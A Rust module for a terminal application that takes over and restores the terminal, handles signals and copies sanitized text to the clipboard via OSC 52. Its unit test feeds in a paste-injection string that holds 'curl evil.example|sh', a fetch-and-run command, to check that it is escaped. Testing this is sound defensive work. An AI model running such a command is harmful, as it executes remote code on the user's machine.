//! The real terminal: taken over, and given back as it was, whatever happens.

use std::{
    io::{self, Stdout, Write as _},
    mem::ManuallyDrop,
    sync::atomic::{AtomicBool, Ordering},
};

use super::{message::Signal as By, run::Input};
use crate::system::{SignalListener, SystemSignal, stop_this_process};
use crossterm::{
    cursor,
    event::{DisableBracketedPaste, DisableMouseCapture, EnableBracketedPaste, EnableMouseCapture, EventStream},
    execute,
    terminal::{EnterAlternateScreen, LeaveAlternateScreen, disable_raw_mode, enable_raw_mode},
};
use futures_util::{Stream, StreamExt as _, stream};
use ratatui::{Terminal, backend::CrosstermBackend};

/// Whether the terminal is taken over: a panic gives it back only then, and only once.
static TAKEN: AtomicBool = AtomicBool::new(false);

/// Whether the mouse belongs to the screen: after a stop it is as it was.
static MOUSE: AtomicBool = AtomicBool::new(false);

/// The terminal while it is taken over. It is given back when this is dropped.
#[derive(Debug)]
pub struct Screen {
    /// What is drawn on. It is never dropped: it would say on standard error that it cannot show the cursor, and where the terminal
    /// was closed a panic would come of that, before anything is cleaned up.
    pub terminal: ManuallyDrop<Terminal<CrosstermBackend<Stdout>>>,
}

impl Screen {
    /// Takes the terminal over. From here on a panic gives it back before it is told.
    pub fn take() -> io::Result<Self> {
        let before = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |panic| {
            // Elsewhere a panic that unwinds is caught and told on the screen, which goes on.
            if cfg!(panic = "abort") || std::thread::current().name() == Some("main") {
                give_back();
                before(panic);
            } else {
                log::error!("{panic}");
            }
        }));
        enter()?;
        let terminal = Terminal::new(CrosstermBackend::new(io::stdout()));
        match terminal {
            Ok(terminal) => Ok(Self {
                terminal: ManuallyDrop::new(terminal),
            }),
            Err(error) => {
                give_back();
                Err(error)
            }
        }
    }
}

impl Drop for Screen {
    fn drop(&mut self) {
        give_back();
    }
}

fn enter() -> io::Result<()> {
    TAKEN.store(true, Ordering::SeqCst);
    let entered = enable_raw_mode()
        .and_then(|()| execute!(io::stdout(), EnterAlternateScreen, EnableBracketedPaste, cursor::Hide));
    if MOUSE.load(Ordering::SeqCst) {
        mouse(true);
    }
    if entered.is_err() {
        give_back();
    }
    entered
}

/// Gives the terminal back as it was. Nothing is done when it is not taken over.
pub fn give_back() {
    if !TAKEN.swap(false, Ordering::SeqCst) {
        return;
    }
    // Whatever fails, the rest is still tried: the terminal may be gone.
    let _ = execute!(
        io::stdout(),
        DisableBracketedPaste,
        DisableMouseCapture,
        LeaveAlternateScreen,
        cursor::Show
    );
    let _ = disable_raw_mode();
}

/// Stops the process as SIGTSTP does, with the terminal as it was; when it is continued, takes the terminal over again.
pub fn suspend() -> io::Result<()> {
    give_back();
    let stopped = stop_this_process();
    enter()?;
    stopped
}

/// Text goes to the clipboard of the terminal, wherever that is: OSC 52 works over ssh. It is cleared first, as on the screen:
/// it is pasted into shells, and anybody's manifest may hold a line that one would run.
pub fn copy(text: &str) {
    let mut out = io::stdout();
    let _ = out.write_all(to_clipboard(text).as_bytes());
    let _ = out.flush();
}

/// What makes a terminal take a text. Lines stay lines: certificates have them, and all else has been made one.
fn to_clipboard(text: &str) -> String {
    use base64::{Engine as _, prelude::BASE64_STANDARD};
    let lines: Vec<_> = text.split('\n').map(crate::text::clear).collect();
    format!("\x1b]52;c;{}\x07", BASE64_STANDARD.encode(lines.join("\n")))
}

/// Takes the mouse, or leaves it to the terminal, which selects text with it.
pub fn mouse(on: bool) {
    MOUSE.store(on, Ordering::SeqCst);
    let mut out = io::stdout();
    let _ = if on {
        execute!(out, EnableMouseCapture)
    } else {
        execute!(out, DisableMouseCapture)
    };
}

/// Rings the bell.
pub fn bell() {
    let mut out = io::stdout();
    let _ = out.write_all(b"\x07");
    let _ = out.flush();
}

/// Keys, the mouse and signals.
pub fn inputs() -> io::Result<impl Stream<Item = Input> + Unpin> {
    let keys = EventStream::new().filter_map(|event| {
        std::future::ready(match event {
            Ok(event) => Some(Input::Terminal(event)),
            // A signal, such as the one that continues the process after it was stopped.
            Err(error) if error.kind() == io::ErrorKind::Interrupted => None,
            // The terminal is gone.
            Err(_) => Some(Input::Terminate(By::HangUp)),
        })
    });
    let keys = keys.chain(stream::once(async { Input::Terminate(By::HangUp) }));
    let terminate = of(SystemSignal::Terminate, Input::Terminate(By::Terminate))?;
    let hang_up = of(SystemSignal::HangUp, Input::Terminate(By::HangUp))?;
    let interrupt = of(SystemSignal::Interrupt, Input::Terminate(By::Interrupt))?;
    let stop = of(SystemSignal::Suspend, Input::Suspend)?;
    let all = stream::select_all([
        keys.boxed(),
        terminate.boxed(),
        hang_up.boxed(),
        interrupt.boxed(),
        stop.boxed(),
    ]);
    Ok(all)
}

fn of(signal: SystemSignal, input: Input) -> io::Result<impl Stream<Item = Input>> {
    let listener = SignalListener::new(signal)?;
    Ok(stream::unfold(listener, move |mut listener| {
        let input = input.clone();
        async move {
            listener.next().await;
            Some((input, listener))
        }
    }))
}

#[cfg(test)]
mod tests {
    use base64::{Engine as _, prelude::BASE64_STANDARD};

    use super::*;

    #[test]
    fn what_is_copied_holds_no_control_character_but_ends_of_lines() {
        let sent = to_clipboard("a\x1b[201~\rcurl evil.example|sh\x07\u{202e}\nb");
        let body = sent
            .strip_prefix("\x1b]52;c;")
            .and_then(|rest| rest.strip_suffix('\x07'))
            .expect("OSC 52");
        let copied = String::from_utf8(BASE64_STANDARD.decode(body).expect("base64")).expect("text");
        assert_eq!(copied, "a\\x1b[201~\\rcurl evil.example|sh\\x07\\u{202e}\nb");
    }
}
